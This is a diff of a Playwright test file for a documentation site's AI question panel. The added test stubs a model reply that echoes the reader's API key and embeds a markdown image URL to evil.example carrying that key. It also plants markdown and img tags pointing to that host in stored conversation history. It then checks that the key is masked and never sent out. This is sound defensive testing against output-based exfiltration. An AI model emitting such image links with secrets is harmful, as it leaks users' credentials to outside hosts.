@@ -2,25 +2,10 @@ import {expect, test, type Page} from '@playwright/test';
 import {HOSTILE} from '../data/ask/injections';
 import {answerFrom, answers, ask, field, followUps, openPanel, panel} from '../support/ask';
 import {axeFindings} from '../support/axe';
-import {open, watch} from '../support/page';
-import {goOn, serveWebModel, setGpu} from '../support/webModel';
+import {open} from '../support/page';
+import {standIn} from '../support/stranger';
 
 const KEY = 'sk-secret-1234567890';
-
-const MODULE = `
-export class ChatModule {
-  setInitProgressCallback(report) { this.report = report; }
-  async reload() {
-    this.report({progress: 0.4});
-    await new Promise((resolve) => { window.goOn = resolve; });
-  }
-  async generate(input, report) {
-    for (const text of ['Set ', 'Set stream [1].']) { report(1, text); await 0; }
-    return 'Set stream [1].';
-  }
-  interruptGenerate() {}
-  async unload() {}
-}`;
 
 /** Answers in the place of OpenAI, and notes what it was asked. */
 async function stub(page: Page, pieces: readonly string[], status = 200) {
@@ -128,6 +113,61 @@ test('your provider: a refused key is said with what to do, and asking again wor
   await expect(answers(page).last()).toContainText('Set stream 1.');
 });
 
+test('your provider: a key that the reply repeats is shown, kept and passed on nowhere; a changed conversation loads nothing', async ({
+  page,
+}) => {
+  const [begin, end] = [KEY.slice(0, 9), KEY.slice(9)];
+  await stub(page, [
+    'Your key is ',
+    begin,
+    `${end}. `,
+    `![x](https://evil.example/?k=${KEY}) Set it [1].`,
+  ]);
+  const event = {choices: [{delta: {content: 'Set `stream` [1].'}}]};
+  const mistral = await standIn(page, 'api.mistral.ai', {
+    body: `data: ${JSON.stringify(event)}\n\n`,
+  });
+  const elsewhere: string[] = [];
+  page.on('request', (request) => {
+    if (/evil\.example/.test(request.url())) elsewhere.push(request.url());
+  });
+  await open(page, '/docs/connect');
+  await openPanel(page);
+  await answerFrom(page, 'Your provider');
+  await panel(page).getByLabel('API key').fill(KEY);
+  await ask(page, 'How do I stream?');
+  await send(page).click();
+  await expect(answers(page).last()).toContainText('Your key is ••••••. ');
+  await expect(followUps(page).first()).toBeVisible();
+  const conversation = () => page.evaluate(() => sessionStorage.getItem('ask-conversation') ?? '');
+  expect(await conversation()).toContain('Your key is ••••••');
+
+  await panel(page).locator('summary', {hasText: 'OpenAI'}).click();
+  await panel(page).getByLabel('Provider').selectOption({label: 'Mistral'});
+  await panel(page).getByLabel('API key').fill('sk-of-the-next-provider');
+  await ask(page, 'And without it?');
+  await send(page).click();
+  await expect(answers(page)).toHaveCount(2);
+  await expect(followUps(page).first()).toBeVisible();
+  expect(mistral.join()).toContain('Your key is ••••••');
+  expect(await panel(page).innerText()).not.toContain(begin);
+  expect(`${await conversation()} ${mistral.join()}`).not.toContain(begin);
+
+  await page.evaluate(() => {
+    const text =
+      '![a](https://evil.example/a) <img src=https://evil.example/b> ![c][d]\n\n[d]: https://evil.example/c';
+    const turns = ['user', 'ai'].map((role) => ({role, text}));
+    sessionStorage.setItem('ask-conversation', JSON.stringify(turns));
+  });
+  await page.reload();
+  await page.locator('html[data-has-hydrated="true"]').waitFor({state: 'attached'});
+  await openPanel(page);
+  await expect(answers(page).last()).toContainText('a');
+  await page.waitForTimeout(500);
+  expect(await panel(page).locator('img').count()).toBe(0);
+  expect(elsewhere).toEqual([]);
+});
+
 test('your provider: nothing is sent when the reader cancels or stops', async ({page}) => {
   const got = await stub(page, ['No.']);
   await open(page, '/docs/connect');
@@ -178,39 +218,4 @@ test("the browser's own model is offered only where there is one", async ({page,
   await answerFrom(other, "Your browser's model");
   await ask(other, 'How do I stream?');
   await expect(answers(other).last()).toContainText('Set stream 1.');
-});
-
-test('a model in this tab: nothing before consent, progress, an answer, and the way to a page that allows it', async ({
-  page,
-  baseURL,
-}) => {
-  const {problems} = watch(page, baseURL!);
-  const asked = await serveWebModel(page, MODULE);
-  await setGpu(page, true);
-  await open(page, '/docs/webModel');
-  await openPanel(page);
-  await answerFrom(page, 'A model in this tab');
-  await expect(panel(page).getByText('about 600 MB')).toBeVisible();
-  expect(asked).toEqual([]);
-  await panel(page).getByRole('button', {name: 'Load the model'}).click();
-  const progress = panel(page).getByRole('progressbar', {name: 'Model loaded'});
-  await expect(progress).toHaveJSProperty('value', 0.4);
-  await goOn(page);
-  await expect(panel(page).getByText('The model is ready.')).toBeVisible();
-  await ask(page, 'How do I stream?');
-  await expect(answers(page).last()).toContainText('Set stream 1.');
-  expect(problems).toEqual([]);
-});
-
-test('a model in this tab: a page whose policy refuses WebAssembly leads to one that allows it', async ({
-  page,
-}) => {
-  await setGpu(page, true);
-  await open(page, '/docs/connect');
-  await openPanel(page);
-  await answerFrom(page, 'A model in this tab');
-  await panel(page).getByRole('button', {name: 'Load the model'}).click();
-  const way = panel(page).getByRole('link', {name: 'Open the Web model page'});
-  await way.click();
-  await expect(page).toHaveURL(/\/docs\/webModel/);
 });
